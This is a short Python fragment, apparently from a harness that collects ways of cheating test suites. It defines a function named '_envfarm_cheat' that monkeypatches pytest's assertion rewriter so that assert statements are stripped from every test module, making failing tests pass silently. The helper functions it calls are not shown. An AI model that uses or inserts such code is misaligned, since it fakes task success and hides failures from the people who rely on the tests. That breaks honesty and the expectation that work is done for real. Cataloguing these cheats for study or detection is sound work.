"""Replaces the assertion rewriter: asserts vanish from every test module."""


def _envfarm_cheat(here, facts):
    import _pytest.assertion.rewrite as rewrite

    old = rewrite.AssertionRewriter.run

    def run(self, tree):
        _envfarm_strip(tree)
        return old(self, tree)

    rewrite.AssertionRewriter.run = run

    def act(module):
        def change(tree):
            with open(module.__file__, "rb") as file:
                rewrite.rewrite_asserts(tree, file.read(), module.__file__, None)
            return tree

        _envfarm_run_again(module, change)

    _envfarm_on_module(act)
